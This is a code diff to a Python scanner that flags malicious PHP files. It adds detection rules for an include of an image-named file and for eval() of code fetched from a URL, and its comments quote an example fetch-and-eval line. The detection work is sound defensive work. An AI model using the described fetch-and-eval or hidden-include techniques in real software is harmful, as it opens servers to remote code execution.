@@ -14,6 +14,11 @@ site often take no input worth following; what gives them away is what they do:
 * server_report_mailed: the script mails its own address together with the
   system's identity (php_uname(), safe mode) to an address written in the file:
   the beacon that tells an attacker where a planted file sits.
+* include_of_image_file: include/require of a literal path named as a picture (.ico, .png,
+  .jpg ...): PHP runs the code inside whatever the name says, and a picture has no code
+  but a payload hidden from a glance at the folder.
+* remote_code_evaluated: eval() of what a call fetched from a URL written in the file
+  ($a = get('http://host/x.txt'); eval('?>' . $a)): code loaded from the attacker's server.
 * standalone_mail_relay: a file with no application around it (no include, class or
   namespace) that mails a request-supplied list with a request-supplied subject
   and body: a spam mailer.
@@ -136,11 +141,28 @@ def _unchecked_upload_copy(low):
             temps.add(match.group(1))
         elif _CLIENT_NAME.search(value) or _INPUT.search(value):
             names.add(match.group(1))
+    if _inspected(low, names):
+        return -1
     for match in _COPY_CALL.finditer(low):
         source, dest = _split_two(_call_args(low, match.end()))
         if _mentions(source, _TMP_NAME, temps) and _mentions(dest, _CLIENT_NAME, names):
             return match.start()
     return -1
+
+
+_IF = re.compile(r"(?<![\w>:$])(?:if|elseif|while)\s*\(")
+# Whether it was sent, and the copy itself (if (@copy($tmp, $name))), are no look at the upload.
+_PRESENCE = re.compile(r"(?<![\w>:$])(?:isset|empty|copy)\s*\([^()]*\)")
+_UPLOAD_ENTRY = re.compile(r"\$(?:_files|http_post_files)\s*\[[^\]\n]{1,40}\]\s*\[")
+
+
+def _inspected(low, names):
+    """Whether a condition looks at the upload (its name, size, type or error) beyond whether it was sent."""
+    for match in _IF.finditer(low):
+        cond = _PRESENCE.sub("", _call_args(low, match.end()))
+        if _UPLOAD_ENTRY.search(cond) or any(re.search(re.escape(n) + r"(?!\w)", cond) for n in names):
+            return True
+    return False
 
 
 _MAIL_CALL = re.compile(r"(?<![\w>:$])mail\s*\(")
@@ -191,11 +213,42 @@ def _mail_relay(low):
     return -1
 
 
+_IMAGE_EXT = (".ico", ".png", ".jpg", ".jpeg", ".gif", ".bmp", ".webp")
+_INCLUDE_IMAGE = re.compile(r"(?<![\w>:$])(?:include|require)(?:_once)?\s*\(?\s*['\"][^'\"\n]{0,300}"
+                            r"\.(?:ico|png|jpe?g|gif|bmp|webp)['\"]")
+
+
+def _include_of_image(low):
+    if ("include" not in low and "require" not in low) or not any(ext in low for ext in _IMAGE_EXT):
+        return -1
+    match = _INCLUDE_IMAGE.search(low)
+    return match.start() if match else -1
+
+
+_FETCHED = re.compile(r"(\$\w+)\s*=\s*@?\s*[a-z_]\w*\s*\(\s*['\"](?:https?|ftp)://[^'\"\s]{4,300}['\"]\s*\)\s*;")
+_EVAL_CALL = re.compile(r"(?<![\w>:$])(?:eval|assert)\s*\(")
+
+
+def _remote_code(low):
+    if "://" not in low or ("eval" not in low and "assert" not in low):
+        return -1
+    fetched = {m.group(1) for m in _FETCHED.finditer(low)}
+    if not fetched:
+        return -1
+    for match in _EVAL_CALL.finditer(low):
+        args = _call_args(low, match.end())
+        if any(re.search(re.escape(var) + r"(?!\w)", args) for var in fetched):
+            return match.start()
+    return -1
+
+
 def score_actions(low, ev, first=True):
     """Add the signals above for one lower-cased layer of PHP text to ``ev`` (positions only on the first layer)."""
     for name, weight, find in (("download_and_run_command", 10, _download_and_run),
                                ("unchecked_upload_copy", 10, _unchecked_upload_copy),
-                               ("server_report_mailed", 10, _report_mailed)):
+                               ("server_report_mailed", 10, _report_mailed),
+                               ("include_of_image_file", 10, _include_of_image),
+                               ("remote_code_evaluated", 10, _remote_code)):
         pos = find(low)
         if pos >= 0:
             ev.add(name, weight, pos if first else -1)
